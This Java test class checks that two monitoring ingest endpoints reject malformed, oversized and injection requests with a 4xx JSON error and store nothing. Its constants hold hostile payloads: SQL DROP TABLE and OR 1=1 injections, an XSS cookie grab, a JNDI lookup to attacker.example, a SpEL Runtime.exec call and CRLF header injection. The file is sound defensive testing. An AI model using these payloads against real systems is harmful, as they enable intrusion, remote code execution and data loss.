package io.incidentflow.ingest;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.incidentflow.IncidentFlowTest;
import io.incidentflow.incident.IncidentService;
import io.incidentflow.ingest.IngestClient.Key;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Malformed, oversized and injection requests to both monitoring endpoints: each is answered 4xx with a
 * JSON error, never 5xx, and stores nothing (no event, no open alert, no incident).
 */
@IncidentFlowTest
class IngestHostileInputTest {

    static final String SQL = "'; DROP TABLE ingest_event; --";
    static final String SCRIPT = "<script>alert(document.cookie)</script>";
    static final String JNDI = "${jndi:ldap://attacker.example/a}";
    static final String JUEL = "${execution.getProcessEngineServices().getIdentityService()}";
    static final String SPEL = "#{T(java.lang.Runtime).getRuntime().exec('id')}";
    static final String CRLF = "disk full\r\nX-Injected: yes\r\n\r\n<html>";
    static final String TWO_MB = "x".repeat(2 * 1024 * 1024);

    @Autowired TestRestTemplate http;
    @Autowired JdbcTemplate jdbc;
    @Autowired IncidentService incidents;
    IngestClient client;
    Key key;

    @BeforeEach
    void init() {
        client = new IngestClient(http, jdbc, incidents);
        key = client.integration("erp");
    }

    private record Attack(String name, Function<Key, ResponseEntity<JsonNode>> send) {
    }

    private String pagerduty(Key key, Consumer<ObjectNode> change) {
        try {
            ObjectNode event = (ObjectNode) IngestClient.JSON.readTree(IngestClient.fixture("pagerduty-trigger.json",
                    Map.of("routing_key", key.key(), "suffix", IngestClient.unique())));
            change.accept(event);
            return event.toString();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static ObjectNode payload(ObjectNode event) {
        return (ObjectNode) event.get("payload");
    }

    private String alertmanager(Consumer<ObjectNode> change) {
        try {
            ObjectNode payload = (ObjectNode) IngestClient.JSON.readTree(IngestClient.fixture("alertmanager-firing.json"));
            payload.put("groupKey", "hostile-" + IngestClient.unique());
            change.accept(payload);
            return payload.toString();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static ObjectNode firstAlert(ObjectNode payload) {
        return (ObjectNode) payload.get("alerts").get(0);
    }

    private List<Attack> attacks() {
        List<Attack> attacks = new ArrayList<>();
        // PagerDuty Events API v2
        attacks.add(new Attack("PD empty body", k -> client.pagerduty("")));
        attacks.add(new Attack("PD truncated JSON", k -> client.pagerduty("{\"routing_key\":\"" + k.key() + "\",")));
        attacks.add(new Attack("PD JSON array", k -> client.pagerduty("[" + pagerduty(k, e -> { }) + "]")));
        attacks.add(new Attack("PD nested 5000 deep", k -> client.pagerduty("{\"routing_key\":" + "[".repeat(5000)
                + "]".repeat(5000) + "}")));
        attacks.add(new Attack("PD no routing_key", k -> client.pagerduty(pagerduty(k, e -> e.remove("routing_key")))));
        attacks.add(new Attack("PD routing_key number", k -> client.pagerduty(pagerduty(k, e -> e.put("routing_key", 1)))));
        attacks.add(new Attack("PD routing_key SQL", k -> client.pagerduty(pagerduty(k, e -> e.put("routing_key", SQL)))));
        attacks.add(new Attack("PD routing_key JNDI", k -> client.pagerduty(pagerduty(k, e -> e.put("routing_key", JNDI)))));
        attacks.add(new Attack("PD routing_key NUL", k -> client.pagerduty(pagerduty(k,
                e -> e.put("routing_key", k.key() + "\u0000")))));
        attacks.add(new Attack("PD event_action script", k -> client.pagerduty(pagerduty(k,
                e -> e.put("event_action", SCRIPT)))));
        attacks.add(new Attack("PD event_action SpEL", k -> client.pagerduty(pagerduty(k,
                e -> e.put("event_action", SPEL)))));
        attacks.add(new Attack("PD severity JUEL", k -> client.pagerduty(pagerduty(k,
                e -> payload(e).put("severity", JUEL)))));
        attacks.add(new Attack("PD dedup_key 300 chars", k -> client.pagerduty(pagerduty(k,
                e -> e.put("dedup_key", SQL + "d".repeat(300 - SQL.length()))))));
        attacks.add(new Attack("PD CR/LF summary without source", k -> client.pagerduty(pagerduty(k, e -> {
            payload(e).put("summary", CRLF);
            payload(e).remove("source");
        }))));
        attacks.add(new Attack("PD summary 1025 chars of script", k -> client.pagerduty(pagerduty(k,
                e -> payload(e).put("summary", SCRIPT.repeat(30).substring(0, 1025))))));
        attacks.add(new Attack("PD payload is SQL", k -> client.pagerduty(pagerduty(k, e -> e.put("payload", SQL)))));
        attacks.add(new Attack("PD timestamp JNDI", k -> client.pagerduty(pagerduty(k,
                e -> payload(e).put("timestamp", JNDI)))));
        attacks.add(new Attack("PD resolve with JUEL and no dedup_key", k -> client.pagerduty(pagerduty(k, e -> {
            e.put("event_action", "resolve");
            e.remove("dedup_key");
            payload(e).put("summary", JUEL);
        }))));
        attacks.add(new Attack("PD foreign service in custom_details, script summary", k -> client.pagerduty(
                pagerduty(k, e -> {
                    payload(e).put("summary", SCRIPT);
                    ((ObjectNode) payload(e).get("custom_details")).put("service", "payments");
                }))));
        attacks.add(new Attack("PD 2 MB body", k -> client.pagerduty(pagerduty(k,
                e -> payload(e).put("summary", TWO_MB)))));
        // Alertmanager webhook
        attacks.add(new Attack("AM no Authorization", k -> client.alertmanager((String) null, alertmanager(p -> { }))));
        attacks.add(new Attack("AM Bearer SQL", k -> client.alertmanager("Bearer ' OR '1'='1", alertmanager(p -> { }))));
        attacks.add(new Attack("AM Bearer JNDI", k -> client.alertmanager("Bearer " + JNDI, alertmanager(p -> { }))));
        // (longer headers than Tomcat's 8 KB limit are refused by Tomcat itself, with its own 400 page)
        attacks.add(new Attack("AM Bearer 4000 chars", k -> client.alertmanager("Bearer " + "k".repeat(4000),
                alertmanager(p -> { }))));
        attacks.add(new Attack("AM truncated JSON", k -> client.alertmanager(k, alertmanager(p -> { }).substring(0, 100))));
        attacks.add(new Attack("AM JSON string", k -> client.alertmanager(k, "\"" + SCRIPT + "\"")));
        attacks.add(new Attack("AM version SpEL", k -> client.alertmanager(k, alertmanager(p -> p.put("version", SPEL)))));
        attacks.add(new Attack("AM status script", k -> client.alertmanager(k, alertmanager(p -> p.put("status", SCRIPT)))));
        attacks.add(new Attack("AM groupKey number", k -> client.alertmanager(k, alertmanager(p -> p.put("groupKey", 7)))));
        attacks.add(new Attack("AM no alerts", k -> client.alertmanager(k, alertmanager(p -> p.putArray("alerts")))));
        attacks.add(new Attack("AM startsAt SQL", k -> client.alertmanager(k, alertmanager(
                p -> firstAlert(p).put("startsAt", SQL)))));
        attacks.add(new Attack("AM label object", k -> client.alertmanager(k, alertmanager(
                p -> ((ObjectNode) firstAlert(p).get("labels")).putObject("instance").put("$gt", "")))));
        attacks.add(new Attack("AM CR/LF summary with JUEL version", k -> client.alertmanager(k, alertmanager(p -> {
            ((ObjectNode) p.get("commonAnnotations")).put("summary", CRLF);
            p.put("version", JUEL);
        }))));
        attacks.add(new Attack("AM foreign service label, JNDI summary", k -> client.alertmanager(k, alertmanager(p -> {
            ((ObjectNode) p.get("commonAnnotations")).put("summary", JNDI);
            ((ObjectNode) p.get("commonLabels")).put("service", "payments");
        }))));
        attacks.add(new Attack("AM 2 MB body", k -> client.alertmanager(k, alertmanager(
                p -> ((ObjectNode) p.get("commonAnnotations")).put("description", TWO_MB)))));
        return attacks;
    }

    private int stored(String table) {
        return client.count("select count(*) from " + table);
    }

    @TestFactory
    Stream<DynamicTest> everyHostileRequestIs4xxAndStoresNothing() {
        List<Attack> attacks = attacks();
        assertThat(attacks).hasSizeGreaterThanOrEqualTo(20);
        return attacks.stream().map(attack -> DynamicTest.dynamicTest(attack.name(), () -> {
            int events = stored("ingest_event");
            int openAlerts = stored("open_alert");
            int incidentCount = stored("incident");

            ResponseEntity<JsonNode> answer = attack.send().apply(key);

            assertThat(answer.getStatusCode().is4xxClientError()).as("%s answered %s: %s", attack.name(),
                    answer.getStatusCode(), answer.getBody()).isTrue();
            assertThat(answer.getHeaders().getContentType()).isNotNull()
                    .matches(type -> type.isCompatibleWith(MediaType.APPLICATION_JSON));
            assertThat(stored("ingest_event")).isEqualTo(events);
            assertThat(stored("open_alert")).isEqualTo(openAlerts);
            assertThat(stored("incident")).isEqualTo(incidentCount);
        }));
    }
}
